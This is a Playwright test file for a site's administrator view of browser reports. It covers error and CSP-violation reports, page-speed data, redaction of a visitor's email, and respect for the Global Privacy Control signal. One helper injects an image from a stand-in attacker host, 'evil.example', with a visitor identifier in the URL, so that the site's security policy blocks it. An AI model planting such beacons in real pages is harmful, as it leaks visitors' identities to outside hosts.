/** What real browsers tell of real visits, as an administrator reads it. */

import type { Browser, Page } from "@playwright/test";
import { expect, LANGUAGES, SITES, test } from "./journey.ts";
import { press } from "./press.ts";
import { comeIn } from "./staff.ts";

// In their order: the last ones clear what the first one looks for.
test.describe.configure({ mode: "default" });

/** How long a page that was just loaded has for what it shows, in milliseconds. */
const SHOWN_MS = 1_000;
/** Until a browser has reported even what it kept, in milliseconds: it does so once a minute. */
const REPORTED_MS = 90_000;

/** The part of /admin/visits under a heading. */
const partOf = (page: Page, id: "speed" | "reports") =>
  page.locator("section", { has: page.locator(`#${id}`) });

/** Goes to a page in a context of its own and brings the browser to report a violation, which no page sees. */
async function violate(browser: Browser): Promise<void> {
  const context = await browser.newContext();
  // A browser without a window sends no report of its own where nobody has allowed it to work in the background.
  await context.grantPermissions(["background-sync"]);
  const visitor = await context.newPage();
  const browserOwn = await visitor.context().newCDPSession(visitor);
  await browserOwn.send("Network.enableReportingApi", { enable: true });
  const noted = new Promise((resolve) => {
    browserOwn.once("Network.reportingApiReportAdded", resolve);
  });
  await visitor.goto(`${SITES.el}/team`);
  await visitor.evaluate(() => {
    const image = document.createElement("img");
    image.src = "https://evil.example/pixel.png?who=maria";
    document.body.append(image);
  });
  await noted;
}

test("an error, a violation and the quickness of a visit arrive where administrators see them", async ({
  page,
  playwright,
  launchOptions,
}) => {
  // A browser of its own, whose contexts have no headers of a journey's: what it reports by itself has none.
  const own = await playwright.chromium.launch(launchOptions);
  const visitor = await own.newPage();
  // Every visit is measured, not one in four.
  await visitor.addInitScript(() => {
    Math.random = () => 0;
  });
  await visitor.goto(`${SITES.el}/team`);
  // The script that tells has been loaded, late, and has taken over.
  await visitor.waitForFunction(() => Object.hasOwn(window.b4Visit ?? [], "push"));
  const told = visitor.waitForRequest("**/reports");
  await visitor.evaluate(() => {
    setTimeout(() => {
      throw new Error("somebody else's trouble with maria@people.example");
    });
  });
  await told;

  await comeIn(page, SITES.en, "administrator", "/admin/visits");
  const reports = partOf(page, "reports");
  const row = (text: string) => reports.getByRole("row").filter({ hasText: text });
  // Going on is when a visit is told of.
  await visitor.goto(`${SITES.el}/terms`);
  await expect(async () => {
    // Chromium sends the first report of a context at once, and keeps all others for a minute.
    await violate(own);
    await page.reload();
    await expect(row("trouble")).toContainText("/team");
    await expect(row("evil.example")).toContainText("/team", { timeout: SHOWN_MS });
    await expect(partOf(page, "speed").getByRole("row")).not.toHaveCount(0, { timeout: 100 });
  }).toPass({ timeout: REPORTED_MS, intervals: [1_000, 5_000, 10_000] });
  await own.close();
  await expect(reports).not.toContainText("maria");
  // Heads, all pages, and the kind of page that was opened.
  expect(await partOf(page, "speed").getByRole("row").count()).toBeGreaterThanOrEqual(3);
});

test("a browser that asks not to be tracked tells nothing", async ({ page }) => {
  await page.addInitScript(() => {
    Math.random = () => 0;
    Object.defineProperty(navigator, "globalPrivacyControl", { value: true });
  });
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(`${SITES.en}/team`);
  await page.goto(`${SITES.en}/terms`);
  expect(await page.evaluate(() => window.b4Visit)).toBeUndefined();
  expect(asked.filter((url) => /visit-reports|\/reports$/.test(url))).toEqual([]);
});

for (const language of LANGUAGES) {
  test(`an administrator clears what browsers reported, in ${language}`, async ({ page }) => {
    const site = SITES[language];
    const violation = {
      "effective-directive": "font-src",
      "blocked-uri": "data",
      "document-uri": site,
    };
    // As a page of ours would: nobody but the browser knows the domains.
    await page.goto(`${site}/terms`);
    await page.evaluate(
      async (report) => {
        await fetch("/reports", { method: "POST", body: JSON.stringify(report) });
      },
      { "csp-report": violation },
    );
    await comeIn(page, site, "administrator", "/admin/visits");
    const reports = partOf(page, "reports");
    await expect(reports.getByRole("row").filter({ hasText: "font-src" })).toBeVisible();
    await press(reports.locator("summary"));
    await press(reports.locator("form button[type=submit]"));
    await expect(page.getByRole("status").first()).toBeVisible();
    await expect(reports.getByRole("row").filter({ hasText: "font-src" })).toHaveCount(0);
  });
}
